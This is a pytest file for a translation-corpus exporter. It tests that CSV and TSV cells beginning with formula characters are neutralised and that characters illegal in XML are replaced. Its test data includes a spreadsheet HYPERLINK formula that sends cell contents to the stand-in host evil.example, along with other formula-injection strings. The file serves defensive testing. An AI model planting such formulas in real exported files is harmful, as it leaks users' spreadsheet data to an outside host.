"""Hostile text at the edge: formula cells, XML-illegal characters, NUL, leftover .part files."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from lxml import etree

from corpora.aligned import AlignedBead, AlignedCorpus
from corpora.exporters import FORMATS, export_corpus
from corpora.exporters import common as export_common
from corpora.text_safety import spreadsheet_safe, xml_safe

FORMULA = '=HYPERLINK("http://evil.example/steal?x="&A1,"click")'
CONTROL_CORPUS = ["bell\x07here", "soh\x01note", "nul\x00x", "nonchar\uffff.", "esc\x1b[31m", "ok\ttab\nline"]


def _corpus(text: str = "plain", note: str = "", name: str = "proj") -> AlignedCorpus:
    beads = [
        AlignedBead([0], [0], [text], ["Cible " + text], 0.9, 0.5, ["numbers"], ["reason " + text],
                    "confirmed", "anna", note, evidence=["ev " + text]),
    ]
    return AlignedCorpus("en", "fr", beads, model="m", name=name, source_name="a.txt", target_name="b.txt")


@pytest.mark.parametrize("fmt", ["csv", "tsv", "report-csv"])
@pytest.mark.parametrize("cell", [FORMULA, "+1+1", "-2+3", "@SUM(A1)", "\t=1"])
def test_formula_cells_are_neutralised(tmp_path: Path, fmt: str, cell: str) -> None:
    out = tmp_path / f"x.{fmt}"
    export_corpus(_corpus(text=cell, note=cell), fmt, out)
    text = io.StringIO(out.read_bytes().decode("utf-8"), newline="")
    rows = list(csv.reader(text, delimiter="\t" if fmt == "tsv" else ","))
    cells = [c for row in rows[1:] for c in row]
    assert "'" + cell in cells
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]


def test_spreadsheet_safe_leaves_plain_cells() -> None:
    assert spreadsheet_safe("plain") == "plain" and spreadsheet_safe(0.5) == 0.5
    assert spreadsheet_safe("=1") == "'=1" and spreadsheet_safe("\r=1") == "'\r=1"


def test_xml_safe_replaces_illegal_characters() -> None:
    assert xml_safe("a\x01b\x07c\uffffd\x00") == "a\ufffdb\ufffdc\ufffdd\ufffd"
    assert xml_safe("tab\tlf\ncr\r") == "tab\tlf\ncr\r"


@pytest.mark.parametrize("fmt", sorted(FORMATS))
@pytest.mark.parametrize("hostile", CONTROL_CORPUS)
def test_control_characters_through_every_exporter(tmp_path: Path, fmt: str, hostile: str) -> None:
    out = tmp_path / "out" / "x.export"
    written = export_corpus(_corpus(text=hostile, note=hostile, name="p" + hostile), fmt, out)
    assert written and all(path.exists() for path in written)
    assert not list((tmp_path / "out").glob(".*.part"))
    if fmt in {"tmx", "xliff", "report"}:
        data = out.read_bytes()
        if fmt == "report":
            tree = etree.parse(io.BytesIO(data), etree.HTMLParser())
        else:
            tree = etree.parse(io.BytesIO(data))  # parses: well-formed XML
        text = "".join(tree.getroot().itertext())
        expected = xml_safe(hostile)
        if expected != hostile:
            assert "\ufffd" in data.decode("utf-8")  # replaced, not dropped
        if fmt != "report":
            assert ("Cible " + expected).split("\n")[0] in text


def test_failed_write_leaves_no_part_file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def boom(*args: object, **kwargs: object) -> None:
        raise OSError("disk full")

    monkeypatch.setattr(export_common.os, "fsync", boom)
    with pytest.raises(OSError):
        export_corpus(_corpus(), "tsv", tmp_path / "x.tsv")
    assert not list(tmp_path.glob("*.part")) and not list(tmp_path.glob(".*.part"))
    assert not (tmp_path / "x.tsv").exists()
